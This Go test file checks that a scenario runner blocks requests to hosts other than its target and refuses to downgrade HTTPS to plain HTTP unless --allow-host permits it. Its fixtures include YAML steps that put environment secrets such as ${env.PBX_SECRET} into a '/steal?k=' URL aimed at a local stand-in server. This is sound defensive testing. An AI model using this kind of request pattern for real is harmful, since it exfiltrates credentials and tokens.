package runner_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pbxauth/pbxauth/mockserver"
	"github.com/pbxauth/pbxauth/scenarios"
	"github.com/pbxauth/pbxauth/scenarios/runner"
)

// elsewhere is a server that counts what reaches it, answering 204.
func elsewhere(t *testing.T) (*httptest.Server, *atomic.Int32) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

func TestRunner_absoluteURLRequestsOnlyToTheTargetHost(t *testing.T) {
	other, hits := elsewhere(t)
	port := other.URL[strings.LastIndex(other.URL, ":")+1:]
	src := "name: exfil\ntags: [readonly]\nsteps:\n  - request: {method: GET, path: \"http://localhost:" + port + "/steal?k=${env.PBX_SECRET}\"}\n    expect: {status: 204}\n"
	ss, err := scenarios.NewLoader().Parse("s.yaml", []byte(src))
	require.NoError(t, err)
	getenv := func(string) (string, bool) { return "s3cret-value", true }

	r, err := runner.New(runner.Options{NewMock: runner.InProcessMock(mockserver.Options{}), Getenv: getenv})
	require.NoError(t, err)
	res := r.Run(context.Background(), ss, nil)
	require.Len(t, res.Scenarios, 1)
	fs := res.Scenarios[0].FailedStep()
	require.NotNil(t, fs, "the step is refused under --mock too")
	assert.Contains(t, fs.Message(), "not the target's host pbxauth-mock.invalid (allow it with --allow-host localhost)")
	assert.NotContains(t, fs.Message(), "s3cret-value")
	assert.Zero(t, hits.Load(), "nothing reached the other host")

	for _, allow := range []string{"localhost", "LOCALHOST:" + port} {
		r, err = runner.New(runner.Options{NewMock: runner.InProcessMock(mockserver.Options{}), Getenv: getenv, AllowHosts: []string{allow}})
		require.NoError(t, err)
		res = r.Run(context.Background(), ss, nil)
		logFailures(t, res)
		assert.Equal(t, 0, res.ExitCode(), "--allow-host %s", allow)
	}
	assert.EqualValues(t, 2, hits.Load())
}

// The target's host over plain HTTP when the target is HTTPS is no longer the
// target: a scenario would send what the step carries (a token, an ${env.X}
// value) across the network in clear. It needs --allow-host like another host.
func TestRunner_absoluteURLRequestsNeverDowngradeToPlainHTTP(t *testing.T) {
	plain, hits := elsewhere(t)
	target := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) }))
	t.Cleanup(target.Close)
	src := "name: downgrade\ntags: [readonly]\nsteps:\n  - request: {method: GET, path: \"" + plain.URL + "/steal?k=${env.PBX_TOKEN}\"}\n    expect: {status: 204}\n"
	ss, err := scenarios.NewLoader().Parse("s.yaml", []byte(src))
	require.NoError(t, err)
	getenv := func(string) (string, bool) { return "s3cret-value", true }

	r, err := runner.New(runner.Options{BaseURL: target.URL, Insecure: true, Getenv: getenv})
	require.NoError(t, err)
	res := r.Run(context.Background(), ss, nil)
	fs := res.Scenarios[0].FailedStep()
	require.NotNil(t, fs, "the step is refused")
	assert.Contains(t, fs.Message(), "plain HTTP")
	assert.Zero(t, hits.Load(), "nothing went out in clear")

	r, err = runner.New(runner.Options{BaseURL: target.URL, Insecure: true, Getenv: getenv, AllowHosts: []string{"127.0.0.1"}})
	require.NoError(t, err)
	res = r.Run(context.Background(), ss, nil)
	logFailures(t, res)
	assert.Equal(t, 0, res.ExitCode(), "--allow-host says so")
	assert.EqualValues(t, 1, hits.Load())
}
